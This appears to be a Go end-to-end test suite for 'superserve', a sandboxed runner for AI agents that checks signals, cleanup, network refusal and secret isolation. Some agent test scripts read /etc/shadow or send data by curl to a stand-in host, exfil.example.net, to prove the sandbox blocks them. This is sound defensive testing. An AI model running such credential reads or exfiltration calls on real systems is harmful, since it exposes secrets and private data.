//go:build e2e

package e2e

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"
)

// agentProject is an agent without secrets that runs a shell script.
func agentProject(t testing.TB, script string, yaml ...string) string {
	t.Helper()
	return project(t, map[string]string{
		"superserve.yaml": "name: plain\ncommand: sh main.sh\n" + strings.Join(yaml, "\n"),
		"main.sh":         script,
	})
}

func TestRunPassesTheAgentThrough(t *testing.T) {
	w := newWorld(t, "api.openai.com")
	tests := []struct {
		name, script string
		flags        []string
		code         int
		stdout       string
	}{
		{"its exit code", "exit 7", nil, 7, ""},
		{"a death by signal", "kill -TERM $$", nil, 143, ""},
		{"its output", "echo out; echo err >&2", nil, 0, "out\n"},
		{"a sandbox's identity", "echo $IS_SANDBOX $HOME $PWD; touch $HOME/x /tmp/x /workspace/x && echo writable", nil, 0, "1 /home/agent /workspace\nwritable\n"},
		{"variables", "echo $A", []string{"--env", "A=b c"}, 0, "b c\n"},
		{"no host files", "ls -A /root /var/lib /run 2>/dev/null | grep -v -e : -e '^$'; cat /etc/shadow 2>/dev/null; echo end", nil, 0, "end\n"},
		{"nothing to a network of none", "curl -sS -m 5 https://api.openai.com/ 2>&1 | grep -o 'is off'", []string{"--network", "none"}, 0, "is off\n"},
	}
	for _, tt := range tests {
		t.Run("it passes "+tt.name, func(t *testing.T) {
			r := w.run(agentProjectAt(t, w, tt.script), tt.flags...)
			if r.code != tt.code || r.stdout != tt.stdout {
				t.Errorf("exit %d, stdout %q; want %d, %q\nstderr: %s", r.code, r.stdout, tt.code, tt.stdout, r.stderr)
			}
		})
	}
	if n := len(w.requests()); n != 0 {
		t.Errorf("%d requests arrived, want none", n)
	}
}

// agentProjectAt always writes to the same folder, since an agent of one name comes from one place.
func agentProjectAt(t testing.TB, w *world, script string, yaml ...string) string {
	t.Helper()
	dir := filepath.Join(w.state, "src")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	text := "name: plain\ncommand: sh main.sh\n" + strings.Join(yaml, "\n")
	for name, text := range map[string]string{"superserve.yaml": text, "main.sh": script} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestRunReadsStandardInput(t *testing.T) {
	w := newWorld(t, "api.openai.com")
	r := w.superserve("from outside\n", "run", agentProject(t, "cat"))
	if r.code != 0 || r.stdout != "from outside\n" {
		t.Errorf("exit %d, stdout %q\nstderr: %s", r.code, r.stdout, r.stderr)
	}
}

// TestRunUnderAnotherName installs the program as one does beside another release of it.
func TestRunUnderAnotherName(t *testing.T) {
	w := newWorld(t, "api.openai.com")
	renamed := filepath.Join(t.TempDir(), "superserve-next")
	if err := os.Link(bin("superserve"), renamed); err != nil {
		if err := os.Symlink(bin("superserve"), renamed); err != nil {
			t.Fatal(err)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	cmd := w.command(ctx, "run", agentProject(t, "echo ran"))
	cmd.Path, cmd.Env = renamed, append(cmd.Env, "PATH=/usr/bin:/bin")
	if r := w.finish(cmd, ""); r.code != 0 || r.stdout != "ran\n" {
		t.Errorf("exit %d, stdout %q\nstderr: %s", r.code, r.stdout, r.stderr)
	}
}

func TestRunGivesArguments(t *testing.T) {
	w := newWorld(t, "api.openai.com")
	r := w.superserve("", "run", agentProject(t, `printf '%s|' "$@"`), "--", "a b", "-c", "*")
	if r.code != 0 || r.stdout != "a b|-c|*|" {
		t.Errorf("exit %d, stdout %q\nstderr: %s", r.code, r.stdout, r.stderr)
	}
}

func TestRunFaults(t *testing.T) {
	w := newWorld(t, "api.openai.com")
	tests := []struct {
		name   string
		yaml   string
		flags  []string
		code   int
		stderr string
	}{
		{"a command that is not there", "name: faulty\ncommand: no-such-command\n", nil, 127, "no-such-command"},
		{"a time that is up", "name: faulty\ncommand: sleep 60\n", []string{"--timeout", "1s"}, 124, "took longer than 1s"},
		{"a network mode", "name: faulty\ncommand: 'true'\n", []string{"--network", "open"}, 1, "none, bound or public"},
		{"a secret that is not set", "name: faulty\ncommand: 'true'\nsecrets: [A_KEY, B_KEY]\n", nil, 1,
			"Error: Missing required secret(s): A_KEY, B_KEY\nSet them with:\n  superserve secrets set faulty A_KEY=... B_KEY=...\n"},
	}
	for _, tt := range tests {
		t.Run("it reports "+tt.name, func(t *testing.T) {
			dir := filepath.Join(w.state, "src")
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(dir, "superserve.yaml"), []byte(tt.yaml), 0o644); err != nil {
				t.Fatal(err)
			}
			r := w.run(dir, tt.flags...)
			if r.code != tt.code || !strings.Contains(r.stderr, tt.stderr) || r.stdout != "" {
				t.Errorf("exit %d, want %d and %q\nstdout: %s\nstderr: %s", r.code, tt.code, tt.stderr, r.stdout, r.stderr)
			}
		})
	}
}

// TestRefusedDestinationsAreReadable shows that an agent and its user both learn what was refused.
func TestRefusedDestinationsAreReadable(t *testing.T) {
	w := newWorld(t, "api.openai.com")
	r := w.run(agentProject(t, `for i in 1 2 3; do curl -s https://exfil.example.net/x?d=1; done`, "network: {allow: []}\n"))
	if strings.Count(r.stdout, "destination_refused") != 3 {
		t.Errorf("the agent read %q, want a refusal in JSON", r.stdout)
	}
	if n := strings.Count(r.stderr, "exfil.example.net"); n != 1 {
		t.Errorf("the refusal is said %d times on stderr, want once:\n%s", n, r.stderr)
	}
	if n := len(w.requests()); n != 0 {
		t.Errorf("%d requests arrived", n)
	}
}

// TestUnboundSecretGoesNowhere shows that a key without a host stays with secretd.
func TestUnboundSecretGoesNowhere(t *testing.T) {
	w := newWorld(t, "api.example.com")
	const key = "tok-Zk3yRealRealRealRealReal0004"
	w.set("plain", "MY_TOKEN", key)
	dir := agentProject(t, `curl -s -H "Authorization: Bearer $MY_TOKEN" https://api.example.com/echo`, "secrets: [MY_TOKEN]\n")
	r := w.run(dir)
	if !strings.Contains(r.stderr, "superserve secrets bind plain MY_TOKEN --host HOST") {
		t.Errorf("stderr has no advice to bind:\n%s", r.stderr)
	}
	for _, req := range w.requests() {
		if strings.Contains(req.Header.Get("Authorization"), key) {
			t.Error("the unbound key arrived upstream")
		}
	}
	if r := w.superserve("", "secrets", "bind", "plain", "MY_TOKEN", "--host", "api.example.com"); r.code != 0 {
		t.Fatalf("bind: %s", r.stderr)
	}
	r = w.run(dir)
	reqs := w.requests()
	if n := len(reqs); n == 0 || reqs[n-1].Header.Get("Authorization") != "Bearer "+key {
		t.Errorf("after bind the upstream saw %+v\nstderr: %s", reqs, r.stderr)
	}
	w.wantClean(t, "stdout", r.stdout)
}

// TestExposedSecretIsSaidLoudly shows the one way in which an agent gets a real value.
func TestExposedSecretIsSaidLoudly(t *testing.T) {
	w := newWorld(t, "api.example.com")
	w.set("plain", "RAW_KEY", "raw-Zk3yRealRealRealRealReal0005")
	r := w.run(agentProject(t, `echo "$RAW_KEY"`, "secrets: [{name: RAW_KEY, expose: true}]\n"))
	if r.stdout != "raw-Zk3yRealRealRealRealReal0005\n" || !strings.Contains(r.stderr, "WARNING") || !strings.Contains(r.stderr, "RAW_KEY") {
		t.Errorf("stdout %q\nstderr: %s", r.stdout, r.stderr)
	}
}

// background starts a run whose agent says "ready" and waits for that.
func (w *world) background(t *testing.T, dir string, flags ...string) (kill func(os.Signal), wait func() result) {
	t.Helper()
	cmd, _, wait := w.start(t, dir, flags...)
	return func(s os.Signal) { cmd.Process.Signal(s) }, wait
}

// conversation is background for an agent that reads lines.
func (w *world) conversation(t *testing.T, dir string) (say func(string), wait func() result) {
	t.Helper()
	_, in, wait := w.start(t, dir)
	return func(line string) {
		if _, err := io.WriteString(in, line); err != nil {
			t.Error(err)
		}
	}, wait
}

func (w *world) start(t *testing.T, dir string, flags ...string) (*exec.Cmd, io.Writer, func() result) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	args := append(append([]string{"run"}, w.runFlags()...), append(flags, dir)...)
	cmd := w.command(ctx, args...)
	var errs strings.Builder
	cmd.Stderr = &errs
	in, inErr := cmd.StdinPipe()
	out, outErr := cmd.StdoutPipe()
	if err := errors.Join(inErr, outErr, cmd.Start()); err != nil {
		t.Fatal(err)
	}
	w.supervisor = cmd.Process.Pid
	t.Cleanup(func() { cancel(); cmd.Wait() })
	head := make([]byte, len("ready\n"))
	if _, err := io.ReadFull(out, head); err != nil || string(head) != "ready\n" {
		cmd.Wait()
		t.Fatalf("the agent said %q: %v\nstderr: %s", head, err, errs.String())
	}
	return cmd, in, func() result {
		rest, _ := io.ReadAll(out)
		cmd.Wait()
		return result{string(rest), errs.String(), cmd.ProcessState.ExitCode()}
	}
}

func TestSignalsReachTheAgent(t *testing.T) {
	w := newWorld(t, "api.example.com")
	kill, wait := w.background(t, agentProject(t, `trap 'echo caught; exit 9' TERM; echo ready; while :; do sleep 0.1; done`))
	kill(syscall.SIGTERM)
	if r := wait(); r.code != 9 || r.stdout != "caught\n" {
		t.Errorf("exit %d, stdout %q\nstderr: %s", r.code, r.stdout, r.stderr)
	}
}

func TestInterruptEndsTheRun(t *testing.T) {
	w := newWorld(t, "api.example.com")
	kill, wait := w.background(t, agentProject(t, `echo ready; exec sleep 1000`))
	kill(os.Interrupt)
	if r := wait(); r.code != 130 {
		t.Errorf("exit %d, want 130\nstderr: %s", r.code, r.stderr)
	}
}

// TestSecondInterruptInsists ends an agent that ignores the first.
func TestSecondInterruptInsists(t *testing.T) {
	w := newWorld(t, "api.example.com")
	kill, wait := w.background(t, agentProject(t, `trap '' INT TERM; echo ready; while :; do sleep 0.1; done`))
	kill(os.Interrupt)
	kill(syscall.SIGTERM) // not the same again: two of a kind that wait for delivery are one
	if r := wait(); r.code != 130 {
		t.Errorf("exit %d, want 130\nstderr: %s", r.code, r.stderr)
	}
}

func TestPsLogsAndStop(t *testing.T) {
	w := newWorld(t, "api.example.com")
	_, wait := w.background(t, agentProject(t, `echo ready; sleep 1000`))
	ps := w.superserve("", "ps")
	id := regexp.MustCompile(`(?m)^(\S+)\s+plain\s+running`).FindStringSubmatch(ps.stdout)
	if id == nil {
		t.Fatalf("ps shows no running plain:\n%s%s", ps.stdout, ps.stderr)
	}
	followed := make(chan result)
	go func() {
		cmd := w.command(context.Background(), "logs", "-f", id[1])
		out, err := cmd.Output()
		followed <- result{stdout: string(out), stderr: fmt.Sprint(err)}
	}()
	if r := w.superserve("", "stop", id[1]); r.code != 0 {
		t.Errorf("stop: exit %d: %s", r.code, r.stderr)
	}
	wait()
	if ps := w.superserve("", "ps"); strings.Contains(ps.stdout, id[1]) {
		t.Errorf("ps still shows %s:\n%s", id[1], ps.stdout)
	}
	if r := <-followed; r.stdout != "ready\n" || r.stderr != "<nil>" {
		t.Errorf("logs -f: %q: %s", r.stdout, r.stderr)
	}
	if r := w.superserve("", "logs", id[1]); r.code != 0 || r.stdout != "ready\n" {
		t.Errorf("logs: exit %d, %q: %s", r.code, r.stdout, r.stderr)
	}
}

// TestRunLeavesNothing looks for what a run could leave: processes, mounts and control groups.
func TestRunLeavesNothing(t *testing.T) {
	for _, ending := range []syscall.Signal{syscall.SIGTERM, syscall.SIGINT, syscall.SIGKILL} {
		t.Run("it leaves nothing after "+ending.String(), func(t *testing.T) {
			w := newWorld(t, "api.example.com")
			dir := agentProject(t, "echo ready; read x")
			kill, wait := w.background(t, dir)
			parts := descendants(w.supervisor)
			if len(parts) < 4 {
				t.Fatalf("the run has the processes %v, want the proxy and gVisor's three at least", parts)
			}
			id := w.runs(t)[0]
			kill(ending)
			wait()
			if ending == syscall.SIGKILL {
				w.run(dir, "--timeout", "1s") // the next start is what sweeps
			}
			eventually(t, func() string { return w.traces(t, id, parts) })
		})
	}
}

// eventually waits until look finds nothing: what was killed takes a moment to go.
func eventually(t *testing.T, look func() string) {
	t.Helper()
	for deadline := time.Now().Add(time.Minute); look() != ""; time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("left behind:\n%s", look())
		}
	}
}

// descendants returns the processes below one, by their parents in /proc/ID/stat.
func descendants(root int) []int {
	children := map[int][]int{}
	for _, id := range processes() {
		stat, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", id))
		_, rest, _ := strings.Cut(string(stat), ") ") // after the name, which may hold anything
		var state string
		var parent int
		fmt.Sscan(rest, &state, &parent)
		children[parent] = append(children[parent], id)
	}
	var all []int
	for next := children[root]; len(next) > 0; {
		all = append(all, next[0])
		next = append(next[1:], children[next[0]]...)
	}
	return all
}

// runs returns the ids of the world's runs.
func (w *world) runs(t *testing.T) []string {
	t.Helper()
	entries, err := os.ReadDir(filepath.Join(w.state, "runs"))
	if err != nil || len(entries) == 0 {
		t.Fatalf("no runs: %v", err)
	}
	var ids []string
	for _, e := range entries {
		ids = append(ids, e.Name())
	}
	return ids
}

// traces lists what is still there of a run.
func (w *world) traces(t *testing.T, id string, parts []int) string {
	t.Helper()
	var all []string
	for _, part := range parts {
		if line := commandLine(part); line != "" {
			all = append(all, line)
		}
	}
	mounts, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(mounts)) {
		if strings.Contains(line, w.state) || strings.Contains(line, id) {
			all = append(all, line)
		}
	}
	leaves, _ := filepath.Glob("/sys/fs/cgroup/*/superserve/" + id)
	more, _ := filepath.Glob("/sys/fs/cgroup/superserve/" + id)
	return strings.Join(append(append(all, leaves...), more...), "\n")
}

// TestKeyIsInNoOtherProcess looks into the memory of every process of a run while the upstream has the
// key and the agent waits for the answer: only the proxy and secretd may hold it.
func TestKeyIsInNoOtherProcess(t *testing.T) {
	w := newWorld(t, "api.openai.com")
	w.set("plain", "OPENAI_API_KEY", openaiKey)
	var guilty []string
	scanned := 0
	w.during = func() { guilty, scanned = scanMemory(openaiKey) }
	r := w.run(agentProject(t, `curl -s -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/echo`, "secrets: [OPENAI_API_KEY]\n"))
	if r.code != 0 || len(w.requests()) != 1 || w.requests()[0].Header.Get("Authorization") != "Bearer "+openaiKey {
		t.Fatalf("exit %d, requests %+v\nstderr: %s", r.code, w.requests(), r.stderr)
	}
	if scanned < 3 {
		t.Errorf("looked into %d processes, want the supervisor, the sentry and the gofer at least", scanned)
	}
	for _, g := range guilty {
		t.Errorf("holds the key: %s", g)
	}
}
